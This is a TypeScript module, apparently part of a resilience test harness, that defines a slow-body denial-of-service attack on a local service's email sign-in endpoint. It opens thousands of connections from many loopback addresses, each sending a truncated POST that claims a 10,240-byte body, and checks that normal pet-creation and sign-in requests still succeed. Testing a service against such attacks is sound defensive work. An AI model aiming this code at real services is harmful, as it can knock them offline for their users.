import type { Socket } from "node:net";
import type { Attack } from "../attack.js";
import { password } from "../access.js";
import { addressOfMany, openMany } from "../sockets.js";

/** The number of bodies that each address holds at once. A service that reads each for 30 s gets 600 a minute. */
const PER_ADDRESS = 300;
/** The largest body that a sign-in may have. */
const MAX_BYTES = 10_240;
/** The last bodies are shorter than any body of the victim, so that they use up what is left of a byte budget. */
const LAST = 600;
const LAST_SENT_BYTES = 20;

const packet = (port: number, sentBytes: number) =>
  Buffer.from(
    `POST /auth/sign-in/email HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nOrigin: http://127.0.0.1:${port}\r\n` +
      `Content-Type: application/json\r\nContent-Length: ${MAX_BYTES}\r\n\r\n${"{".padEnd(sentBytes)}`,
  );

export const slowBodies: Attack = {
  name: "slow sign-in bodies",
  full: { count: 13 * PER_ADDRESS, seconds: 10 },
  short: { count: 13 * PER_ADDRESS, seconds: 2 },
  victims: ({ origin, ownerKey, emails: [email = ""] }) => [
    {
      name: "POST /v1/pets",
      method: "POST",
      path: "/v1/pets",
      headers: { authorization: `Bearer ${ownerKey}` },
      body: JSON.stringify({ name: "Victim", categoryId: 1 }),
      everyMs: 100,
      from: ["127.0.200.1"],
      expected: [201],
    },
    {
      name: "sign-in",
      method: "POST",
      path: "/auth/sign-in/email",
      headers: { origin },
      body: JSON.stringify({ email, password }),
      everyMs: 1_000,
      // A network may sign in 30 times in 15 minutes.
      from: Array.from({ length: 10 }, (_, at) => `127.0.201.${1 + at}`),
      expected: [200],
    },
  ],
  bounds: { rssMb: 350 },
  strike: (target, gains, signal) => {
    const { port, count } = target;
    const [large, small] = [packet(port, MAX_BYTES - 1), packet(port, LAST_SENT_BYTES)];
    const onOpen = (socket: Socket, at: number) => socket.write(at < count - LAST ? large : small);
    return openMany({ ...target, gains, signal, from: addressOfMany(PER_ADDRESS), onOpen });
  },
};
